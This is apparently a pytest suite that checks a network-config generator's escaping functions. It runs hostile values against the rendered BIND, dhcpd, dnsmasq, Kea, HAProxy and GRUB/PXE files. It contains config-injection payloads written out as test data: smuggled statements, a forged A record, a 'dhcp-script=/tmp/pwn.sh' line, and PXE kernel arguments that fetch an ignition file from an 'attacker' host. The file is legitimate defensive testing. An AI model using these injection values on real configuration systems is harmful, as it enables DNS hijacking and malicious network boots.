"""Hostile values against the emitters: no value may add a statement, record, section,
option, kernel argument or menu line to any rendered file, whatever the schema lets through.

The corpus (tests/hostile/output.yaml) puts one hostile value into one slot of lab A or lab B
per case. Each case is rendered twice from a scratch copy of the repo, once with a benign
value in that slot (`clean`) and once with the hostile one, with the schema and the semantic
checks skipped (`render_permissive`): the emitters must hold on their own. Then either

- the hostile rendering fails with exactly the case's one-line error (the escape module's
  refusal, located in the document), or
- it "renders safely": the same files as the clean rendering, every file with the same
  parsed structure (statements, records, sections, options, kernel arguments, menu lines;
  quoted strings and word contents masked, so the hostile text may only differ inside its
  slot), and every changed file accepted by the real daemon's own checker (named-checkconf
  -z in a chroot, named-checkzone -D, dhcpd -t, kea-dhcp4 -t, dnsmasq --test, haproxy -c,
  grub-script-check), daemons in lo-only namespaces (tests/netns.py).

The tests at the end replay finding #2 of issue 14 through the real CLI; on the code before
the escape module each of them rendered the injected directive.
"""

from __future__ import annotations

import dataclasses
import json
import os
import random
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
import yaml
from clirun import gen
from hypothesis import given, settings
from hypothesis import strategies as st
from netns import netns
from test_dhcp import kea_env
from test_dns import write
from test_haproxy import haproxy_check

from generator.environment import load_documents
from generator.errors import InvalidInput
from generator.expand import expand
from generator.families import Pins, escape, render_all
from generator.model import Environment
from generator.tree import Tree

ROOT = Path(__file__).resolve().parent.parent
CORPUS_FILE = ROOT / "tests" / "hostile" / "output.yaml"
SAFE = "renders safely"


def load_corpus() -> list[dict[str, Any]]:
    cases: list[dict[str, Any]] = yaml.safe_load(CORPUS_FILE.read_text())
    return cases


CORPUS = load_corpus()


# --- scratch repos and the permissive render --------------------------------------------


def scratch(dest: Path, case: dict[str, Any], value: str | int) -> tuple[Path, str]:
    """A copy of the repo inputs with the case's edits, `{value}` as a YAML double-quoted
    (JSON) scalar (or a number), or the environment's directory renamed to the value."""
    for name in ("environments", "blueprints"):
        shutil.copytree(ROOT / name, dest / name)
    env = case.get("env", "lab")
    env_file = dest / "environments" / env / "env.yaml"
    text = env_file.read_text()
    for edit in case.get("edits", []):
        assert text.count(edit["replace"]) == 1, (case["id"], edit["replace"])
        text = text.replace(edit["replace"], edit["with"].replace("{value}", json.dumps(value)))
    env_file.write_text(text)
    if case.get("rename"):
        env = str(value)
        (dest / "environments" / case.get("env", "lab")).rename(dest / "environments" / env)
    return dest / "environments" / env, env


def render_permissive(env_dir: Path) -> tuple[Environment, Tree]:
    """Load, merge and expand, then render, skipping the schema and the semantic checks: the
    emitters are the last line of defence and are tested as if the schema let all through.
    The environment's directory name is put in after expanding (expand refuses names that
    are not plain), so the emitters see it as it is."""
    _, doc = load_documents(env_dir)
    env = dataclasses.replace(expand(doc, "permissive"), name=env_dir.name)
    return env, render_all(env, Pins(), locate=doc.locate)


# --- structure: what may not change when a value changes --------------------------------

_STRING = r'"(?:[^"\\]|\\.)*"'


def _tokens(text: str, comment: str) -> list[str]:
    """Tokens of a brace-and-semicolon language (named.conf, dhcpd.conf); strings masked."""
    out = []
    pattern = re.compile(rf'\s+|{comment}[^\n]*|{_STRING}|[{{}};]|[^\s{{}};"]+')
    pos = 0
    while pos < len(text):
        found = pattern.match(text, pos)
        assert found is not None, f"cannot tokenize at {text[pos:pos + 40]!r}"
        token = found.group()
        pos = found.end()
        if token.isspace() or re.fullmatch(comment + r"[^\n]*", token):
            continue
        out.append('"S"' if token.startswith('"') else token)
    return out


def _words(line: str, quotes: str = "") -> list[str]:
    """Whitespace-separated words, quoted runs (of `quotes`) kept whole and masked."""
    words, pos = [], 0
    quoted = "|".join([_STRING] * ('"' in quotes) + ["'[^']*'"] * ("'" in quotes))
    pattern = re.compile(rf"\s+|(?:{quoted}|\S)+" if quoted else r"\s+|\S+")
    while pos < len(line):
        found = pattern.match(line, pos)
        assert found is not None
        pos = found.end()
        if not found.group().isspace():
            words.append(found.group())
    return words


def _masked(value: Any) -> Any:
    """A JSON/YAML document's shape: its nesting, types, and for strings (keys included)
    their number of lines (a line break smuggled into a string would add lines to the file
    it carries, such as an Ignition keyfile)."""
    if isinstance(value, dict):  # keys can be values too (a TFTP path named by a boot file)
        return sorted(repr((_masked(key), _masked(item))) for key, item in value.items())
    if isinstance(value, list):
        return [_masked(item) for item in value]
    if isinstance(value, str):
        return ("str", value.count("\n"))
    return type(value).__name__


def _xml_shape(element: ET.Element) -> Any:
    return (element.tag, sorted(element.attrib), [_xml_shape(c) for c in element])


def _line_shape(text: str, quotes: str = "", comment: str = "#") -> list[tuple[int, str, int]]:
    """Per non-comment line: indentation, first word and number of words."""
    shape = []
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith(comment):
            shape.append((0, "", 0))
            continue
        words = _words(line, quotes)
        shape.append((len(line) - len(line.lstrip()), words[0], len(words)))
    return shape


def _dnsmasq_shape(text: str) -> list[tuple[str, int]]:
    shape = []
    for line in text.splitlines():
        if line.startswith("#") or not line:
            continue
        option, _, value = line.partition("=")
        shape.append((option, len(re.findall(rf'(?:{_STRING}|[^,"])+|(?<=,)(?=,)', value))))
    return shape


def _exports_shape(text: str) -> list[list[int]]:
    return [[len(word.split(",")) for word in line.split()]
            for line in text.splitlines() if line and not line.startswith("#")]


def _zone_shape(text: str) -> list[tuple[str, ...]]:
    """Per line: class and type as written, the owner and the first RDATA word masked,
    quoted strings one masked word (a TXT split into several strings is still one record),
    and the number of words."""
    shape = []
    for line in text.splitlines():
        if line.startswith(";"):
            continue
        words = [w for w in re.findall(rf'(?:{_STRING}\s*)+|\S+', line)]
        shape.append(tuple("S" if w.startswith('"') else ("W" if i in (0, 3) else w)
                           for i, w in enumerate(words[:4])) + (str(len(words)),))
    return shape


def shape(path: str, content: bytes) -> Any:
    """The structure of one rendered file, by its language."""
    text = content.decode()
    name = path.rsplit("/", 1)[-1]
    if name.endswith((".json", ".ign")) or name == "kea-dhcp4.conf":
        return _masked(json.loads(text))
    if name.endswith((".yaml", ".yml")) or "/cloud-init/" in path:
        return [_masked(doc) for doc in yaml.safe_load_all(text)]
    if name.endswith(".xml"):
        return _xml_shape(ET.fromstring(text))
    if name == "named.conf":
        return _tokens(text, r"//")
    if name.endswith(".zone"):
        return _zone_shape(text)
    if name == "dhcpd.conf":
        return _tokens(text, "#")
    if "/dnsmasq/" in path:
        return _dnsmasq_shape(text)
    if name == "exports":
        return _exports_shape(text)
    if name.startswith("grub.cfg"):
        return _line_shape(text, quotes="'\"")
    if name == "httpd.conf":
        return _line_shape(text, quotes='"')
    return _line_shape(text)  # haproxy.cfg, pxelinux, iPXE, and anything else line-based


# --- the real checkers ------------------------------------------------------------------


def check_bind(env: Environment, tree: Tree, tmp: Path) -> None:
    """named-checkconf -z in a chroot holding `directory` as written (so a hostile directory
    is checked as the one path it must be), and named-checkzone on every zone."""
    dns = env.services.dns
    assert dns is not None
    chroot = tmp / "chroot"
    inside = chroot / dns.directory.lstrip("/")
    write(tree, f"hosts/{dns.host}/dns", inside)
    # zones named by absolute path (a `directory` the zones are not below) are where the
    # host's profile installs them
    write(tree, f"hosts/{dns.host}/dns", chroot / dns.os.bind_zones.lstrip("/") / "..")
    shutil.copy(inside / "named.conf", chroot / "named.conf")
    result = subprocess.run(["named-checkconf", "-t", chroot, "-z", "/named.conf"],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def zone_records(path: Path, zone: str) -> list[str]:
    """The zone's records as named-checkzone loads them: `owner type`, one per record."""
    result = subprocess.run(["named-checkzone", "-D", "-o", "-", zone, path],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    return sorted(" ".join(line.split()[:1] + line.split()[3:4])
                  for line in result.stdout.splitlines() if line and not line.startswith(";"))


def check_dhcpd(conf: bytes, tmp: Path) -> None:
    path = tmp / "dhcpd.conf"
    path.write_bytes(conf)
    result = subprocess.run(["dhcpd", "-t", "-cf", path], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def check_kea(conf: bytes, tmp: Path, interface: str) -> None:
    path = tmp / "kea-dhcp4.conf"
    path.write_bytes(conf)
    with netns("keah") as ns:
        ns.run(["ip", "link", "add", interface, "type", "veth", "peer", "name", "keap"],
               check=True)
        result = ns.run(["kea-dhcp4", "-t", path], env=kea_env(tmp))
    assert result.returncode == 0, result.stdout + result.stderr


def check_dnsmasq(tree: Tree, host: str, tmp: Path) -> None:
    confdir = write(tree, f"hosts/{host}/dnsmasq", tmp / "dnsmasq")
    result = subprocess.run(["dnsmasq", "--test", "-C", "/dev/null",
                             f"--conf-dir={confdir},*.conf"], capture_output=True, text=True)
    assert result.returncode == 0 and "syntax check OK" in result.stderr, result.stderr


def check_haproxy(conf: bytes, tmp: Path) -> None:
    path = tmp / "haproxy.cfg"
    path.write_bytes(conf)
    with netns("hah") as ns:
        result = haproxy_check(ns, path)
    assert result.returncode == 0, result.stdout + result.stderr


def check_grub(conf: bytes, tmp: Path) -> None:
    path = tmp / "grub.cfg"
    path.write_bytes(conf)
    result = subprocess.run(["grub-script-check", path], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def run_checkers(env: Environment, clean: Tree, tree: Tree, changed: list[str],
                 tmp: Path) -> list[str]:
    """Every changed file through its daemon's checker; returns the checkers that ran."""
    ran = []
    if any("/dns/" in p for p in changed):
        check_bind(env, tree, tmp / "bind")
        for path in (p for p in changed if p.endswith(".zone")):
            zone = path.rsplit("/", 1)[-1].removesuffix(".zone")
            files = [(tmp / f"{side}.zone", side_tree[path])
                     for side, side_tree in (("clean", clean), ("hostile", tree))]
            for file, content in files:
                file.write_bytes(content)
            assert zone_records(files[0][0], zone) == zone_records(files[1][0], zone)
        ran.append("named")
    for path in changed:
        if path.endswith("dhcpd.conf"):
            check_dhcpd(tree[path], tmp)
            ran.append("dhcpd")
        elif path.endswith("kea-dhcp4.conf"):
            data = json.loads(tree[path])
            check_kea(tree[path], tmp, data["Dhcp4"]["interfaces-config"]["interfaces"][0])
            ran.append("kea")
        elif path.endswith("haproxy.cfg"):
            check_haproxy(tree[path], tmp)
            ran.append("haproxy")
        elif "/grub.cfg" in path:  # in grub/ (Debian) or the TFTP root (el9)
            check_grub(tree[path], tmp)
            ran.append("grub")
    dnsmasq_hosts = sorted({p.split("/")[1] for p in changed if "/dnsmasq/" in p})
    for host in dnsmasq_hosts:
        check_dnsmasq(tree, host, tmp)
        ran.append("dnsmasq")
    return ran


# --- the corpus -------------------------------------------------------------------------


def test_corpus_is_large_and_varied() -> None:
    """At least 50 hostile values, both outcomes, both labs."""
    assert len(CORPUS) >= 50
    assert len({c["id"] for c in CORPUS}) == len(CORPUS)
    outcomes = {c["expect"] == SAFE for c in CORPUS}
    assert outcomes == {True, False}
    assert {c.get("env", "lab") for c in CORPUS} == {"lab", "k8s-lab"}


@pytest.mark.daemons
@pytest.mark.parametrize("case", CORPUS, ids=[c["id"] for c in CORPUS])
def test_hostile_value(case: dict[str, Any], tmp_path: Path) -> None:
    clean_dir, _ = scratch(tmp_path / "clean", case, case["clean"])
    hostile_dir, _ = scratch(tmp_path / "hostile", case, case["hostile"])
    _, clean = render_permissive(clean_dir)
    if case["expect"] != SAFE:
        with pytest.raises(InvalidInput) as refused:
            render_permissive(hostile_dir)
        assert refused.value.lines() == [case["expect"]]
        return
    env, hostile = render_permissive(hostile_dir)
    assert sorted(hostile) == sorted(clean), "the hostile value changed which files exist"
    changed = [p for p in clean if clean[p] != hostile[p]]
    assert changed, "the hostile value reached no rendered file"
    for path in changed:
        assert shape(path, hostile[path]) == shape(path, clean[path]), path
    ran = run_checkers(env, clean, hostile, changed, tmp_path)
    assert set(case.get("checkers", [])) <= set(ran), ran


def test_shape_catches_an_injected_line() -> None:
    """The structure comparison can fail: each language's injection is seen."""
    named = b'options {\n\tdirectory "/var/named";\n};\n'
    assert shape("x/named.conf", named) != shape(
        "x/named.conf", b'options {\n\tdirectory "/var/named"; version "X"; //";\n};\n')
    zone = b'note\tIN\tTXT\t"hi"\n'
    assert shape("a.zone", zone) != shape("a.zone", b'note\tIN\tTXT\t"hi"\nevil\tIN\tA\t6.6.6.6\n')
    dhcpd = b'  filename "pxelinux.0";\n'
    assert shape("dhcpd.conf", dhcpd) != shape(
        "dhcpd.conf", b'  filename "pxelinux.0"; option domain-name-servers 6.6.6.6; #";\n')
    dnsmasq = b"dhcp-boot=tag:efi,grubx64.efi,,192.168.20.111\n"
    assert shape("h/dnsmasq/d.conf", dnsmasq) != shape(
        "h/dnsmasq/d.conf", b"dhcp-boot=tag:efi,grubx64.efi\ndhcp-script=/tmp/pwn.sh,,1.2.3.4\n")
    grub = b"  linux /images/k ip=dhcp\n"
    assert shape("grub/grub.cfg-01-x", grub) != shape(
        "grub/grub.cfg-01-x", b"  linux /images/k ip=dhcp coreos.inst.ignition_url=http://a\n")
    keyfile = {"contents": "id=ens3\n"}
    assert shape("a.json", json.dumps(keyfile).encode()) != shape(
        "a.json", json.dumps({"contents": "id=ens3\nx=y\n"}).encode())


# --- finding #2 of issue 14, through the real CLI ----------------------------------------


def cli_repo(tmp: Path, env: str, old: str, new: str) -> Path:
    repo = tmp / "repo"
    for name in ("environments", "blueprints"):
        shutil.copytree(ROOT / name, repo / name)
    (repo / "lock").mkdir()
    env_file = repo / "environments" / env / "env.yaml"
    text = env_file.read_text()
    assert text.count(old) == 1, old
    env_file.write_text(text.replace(old, new))
    return repo


def rendered_or_refused(repo: Path, env: str = "lab") -> dict[str, str] | None:
    """`gen render`: the rendered files' text, or None when it refused with one line."""
    result = gen("render", f"env/{env}", cwd=repo)
    if result.code != 0:
        assert result.code == 1, result.err
        assert len(result.err.strip().splitlines()) == 1, result.err
        assert not (repo / "rendered").exists() or not any((repo / "rendered").rglob("*.*"))
        return None
    out = repo / "rendered" / env
    return {p.relative_to(out).as_posix(): p.read_text(errors="replace")
            for p in out.rglob("*") if p.is_file()}


BIND = "    provider: bind\n"


def test_finding_bind_directory_adds_no_statement(tmp_path: Path) -> None:
    """`directory: '/var/named"; version "X"; //'`: named-checkconf passed an extra option."""
    repo = cli_repo(tmp_path, "lab", BIND,
                    BIND + """    directory: '/var/named"; version "X"; //'\n""")
    files = rendered_or_refused(repo)
    if files is not None:
        conf = files["hosts/helper/dns/named.conf"]
        assert 'version "X"' not in conf
        assert len([t for t in _tokens(conf, "//") if t == "version"]) == 0


@pytest.mark.daemons  # named-checkzone
def test_finding_txt_newline_adds_no_record(tmp_path: Path) -> None:
    """A TXT value with a newline added an A record that named-checkzone accepted."""
    repo = cli_repo(tmp_path, "lab", BIND, BIND + '    records:\n      - {name: note, type: '
                    'TXT, value: "\\"hi\\"\\nevil 300 IN A 6.6.6.6\\n@ TXT \\"x\\""}\n')
    files = rendered_or_refused(repo)
    if files is not None:
        zone = tmp_path / "zone"
        zone.write_text(files["hosts/helper/dns/zones/ocp4.example.com.zone"])
        records = zone_records(zone, "ocp4.example.com")
        assert not any(r.startswith("evil.") for r in records), records


def test_finding_dnsmasq_txt_newline_adds_no_address(tmp_path: Path) -> None:
    """With dnsmasq the same newline added `address=/victim.com/6.6.6.6`."""
    repo = cli_repo(tmp_path, "lab", BIND, '    provider: dnsmasq\n    records:\n      - {name: '
                    'note, type: TXT, value: "hi\\naddress=/victim.com/6.6.6.6"}\n')
    files = rendered_or_refused(repo)
    if files is not None:
        lines = files["hosts/helper/dnsmasq/dns.conf"].splitlines()
        assert not any(line.startswith("address=/victim.com/") for line in lines)


def test_finding_dhcpd_boot_file_adds_no_option(tmp_path: Path) -> None:
    """`bootFiles.bios: 'pxelinux.0"; option domain-name-servers 6.6.6.6; #'` (dhcpd -t OK)."""
    repo = cli_repo(tmp_path, "lab", "  dns:\n" + BIND, "  dhcp:\n    bootFiles: {bios: "
                    """'pxelinux.0"; option domain-name-servers 6.6.6.6; #'}\n  dns:\n""" + BIND)
    files = rendered_or_refused(repo)
    if files is not None:
        tokens = _tokens(files["hosts/helper/dhcp/dhcpd.conf"], "#")
        assert "6.6.6.6" not in tokens


def test_finding_dnsmasq_boot_file_adds_no_script(tmp_path: Path) -> None:
    """A dnsmasq boot file with `\\ndhcp-script=/tmp/pwn.sh`."""
    repo = cli_repo(tmp_path, "lab", "  dns:\n" + BIND, "  dhcp:\n    provider: dnsmasq\n"
                    '    bootFiles: {bios: "pxelinux.0\\ndhcp-script=/tmp/pwn.sh"}\n'
                    "  dns:\n" + BIND)
    files = rendered_or_refused(repo)
    if files is not None:
        assert "dhcp-script" not in files["hosts/helper/dnsmasq/dhcp.conf"]


@pytest.mark.parametrize("edit", [
    "  pxe:\n    kernelArgs: ['rd.debug coreos.inst.ignition_url=http://attacker/evil.ign']\n",
    "  pxe:\n    kernelArgs: ['coreos.inst.ignition_url=http://attacker/evil.ign']\n",
    "  pxe:\n    installDev: '/dev/vda coreos.inst.ignition_url=http://attacker/evil.ign'\n",
    "  pxe:\n    interface: 'ens3:none coreos.inst.ignition_url=http://attacker/evil.ign'\n",
    '  pxe:\n    installDev: "/dev/vda\\n  APPEND coreos.inst.ignition_url=http://attacker/e"\n',
    '  pxe:\n    kernelArgs: ["x }\\nmenuentry evil { linux /evil"]\n',
], ids=["kernelArgs-space", "kernelArgs-override", "installDev", "interface", "installDev-newline",
        "kernelArgs-grub-menu"])
def test_finding_pxe_values_add_no_kernel_argument(tmp_path: Path, edit: str) -> None:
    """pxe.kernelArgs, pxe.installDev, pxe.interface added kernel arguments or boot lines."""
    repo = cli_repo(tmp_path, "lab", "  dns:\n" + BIND, edit + "  dns:\n" + BIND)
    files = rendered_or_refused(repo)
    if files is not None:
        for path, text in files.items():
            if "/tftp/" in path and not path.endswith(".json"):
                assert "attacker" not in text and "evil" not in text, path


def test_finding_directory_name_adds_no_haproxy_section(tmp_path: Path) -> None:
    """An environment directory named with newlines added a HAProxy `listen` section."""
    repo = cli_repo(tmp_path, "lab", BIND, BIND)
    hostile = "lab\nlisten evil\n    bind *:4444\n#"
    (repo / "environments/lab").rename(repo / "environments" / hostile)
    result = gen("render", str(repo / "environments" / hostile), cwd=repo)
    assert "Traceback" not in result.err
    if result.code == 0:
        for cfg in (repo / "rendered").rglob("haproxy.cfg"):
            assert "listen evil" not in cfg.read_text()
    else:
        assert result.code == 1 and len(result.err.strip().splitlines()) == 1, result.err


# --- the escape functions on any text (hypothesis) ---------------------------------------

FIELD = ("services", "x")


def _refused_in_one_line(call: Any, value: str) -> str | None:
    """`call(value)`, or None when it refused with a one-line error."""
    try:
        result: str = call(value)
    except escape.UnsafeValue as refused:
        (line,) = refused.lines()
        assert "\n" not in line and "\r" not in line
        return None
    assert not re.search(r"[\x00-\x1f\x7f\u2028\u2029]", result), result
    return result


def _unquote(text: str, escapes: str) -> str:
    """A double-quoted string back to its value, `\\` escaping any of `escapes`."""
    assert text.startswith('"') and text.endswith('"') and len(text) >= 2, text
    body, out, i = text[1:-1], [], 0
    while i < len(body):
        if body[i] == "\\":
            assert body[i + 1] in escapes, body
            out.append(body[i + 1])
            i += 2
            continue
        assert body[i] != '"', body  # an unescaped quote would end the string early
        out.append(body[i])
        i += 1
    return "".join(out)


def _zone_bytes(text: str) -> bytes:
    """TXT RDATA (quoted character-strings with \\DDD and \\X escapes) back to its octets."""
    found = re.fullmatch(r'("(?:[ !#-\[\]-~]|\\[0-9]{3}|\\["\\])*")( "(?:[ !#-\[\]-~]|'
                         r'\\[0-9]{3}|\\["\\])*")*', text)
    assert found, text
    data = bytearray()
    for string in re.findall(r'"((?:[^"\\]|\\.)*)"', text):
        data += re.sub(rb"\\([0-9]{3}|.)", lambda m: bytes([int(m.group(1))]) if len(
            m.group(1)) == 3 else m.group(1), string.encode("latin-1"))
    return bytes(data)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_quoting_round_trips(value: str) -> None:
    """Whatever the text, each quoting function refuses it in one line or writes one
    string that reads back as exactly the value."""
    bind = _refused_in_one_line(lambda v: escape.bind_string(v, FIELD), value)
    if bind is not None:
        assert _unquote(bind, '"') == value
    dhcpd = _refused_in_one_line(lambda v: escape.dhcpd_string(v, FIELD), value)
    if dhcpd is not None:
        assert _unquote(dhcpd, '"\\') == value
    grub = _refused_in_one_line(lambda v: escape.grub_quoted(v, FIELD), value)
    if grub is not None:
        assert re.fullmatch(r"'(?:[^']|'\\'')*'", grub) and \
            grub[1:-1].replace("'\\''", "'") == value
    txt = escape.txt(value, FIELD)
    assert "\n" not in txt and all(" " <= c <= "~" for c in txt), txt
    if not (value.startswith('"') and value.endswith('"')):
        assert _zone_bytes(txt) == value.encode()
    if not (value.startswith('"') and value.endswith('"')):
        text = _refused_in_one_line(lambda v: escape.dnsmasq_text(v, FIELD), value)
        if text is not None:
            assert _unquote(text, '"\\') == value


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=30))
def test_words_stay_one_word(value: str) -> None:
    """A word slot holds exactly the value, one token, none of its language's specials."""
    for call, specials in ((escape.kernel_arg, "\"'\\;$&|<>{}#`"),
                           (escape.dnsmasq_field, ',#"\\'), (escape.haproxy_word, "#\"'\\$"),
                           (escape.export_word, '"\\#(),')):
        word = _refused_in_one_line(lambda v: call(v, FIELD), value)  # noqa: B023
        if word is not None:
            assert word == value and value.split() == [value]
            assert not set(value) & set(specials), value
    for check in (escape.domain, escape.name):
        name = _refused_in_one_line(lambda v: check(v, FIELD, "x"), value)  # noqa: B023
        if name is not None:
            assert re.fullmatch(r"[A-Za-z0-9_.*@-]+", name), name


# --- a bounded random pass over every slot of the corpus ---------------------------------

# Characters that mean something in at least one output language, plus plain ones.
DANGEROUS = list("\n\r\t \"'\\;#,{}()[]$`|&<>:=/*@!%?~^") + ["\u2028", "\x85", "\x00", "\x7f"]
PLAIN = list("abcxyz0189.-_")
SEED = int(os.environ.get("GEN_HOSTILE_SEED", "14"))  # CI may pass a changing seed too
PER_SLOT = 3


def _slots() -> list[dict[str, Any]]:
    """One case per distinct slot (same file, edits and lab), minus slots whose values name
    files or derive MACs (node and directory names), where a safe value legitimately
    changes the set of files, and YAML-only slots, where a line break is legitimate data."""
    seen, slots = set(), []
    for case in CORPUS:
        key = (case.get("env", "lab"), json.dumps(case.get("edits")), case.get("rename", False))
        if key in seen or not case.get("random", True):
            continue
        seen.add(key)
        slots.append(case)
    return slots


SLOTS = _slots()


@pytest.mark.parametrize("case", SLOTS, ids=[c["id"] for c in SLOTS])
def test_random_values_never_escape(case: dict[str, Any], tmp_path: Path) -> None:
    """Random strings of dangerous characters in each slot: refused in one line, or the
    same files with the same structure as the clean rendering (fixed seed, and
    GEN_HOSTILE_SEED for another run)."""
    rng = random.Random(f"{SEED}:{case['id']}")
    clean_dir, _ = scratch(tmp_path / "clean", case, case["clean"])
    _, clean = render_permissive(clean_dir)
    for attempt in range(PER_SLOT):
        value = "".join(rng.choice(DANGEROUS + PLAIN) for _ in range(rng.randint(1, 16)))
        hostile_dir, _ = scratch(tmp_path / f"hostile{attempt}", case, value)
        try:
            _, hostile = render_permissive(hostile_dir)
        except InvalidInput as refused:
            assert len(refused.lines()) == 1 and "\n" not in refused.lines()[0], value
            continue
        assert sorted(hostile) == sorted(clean), repr(value)
        for path in clean:
            assert shape(path, hostile[path]) == shape(path, clean[path]), (path, value)
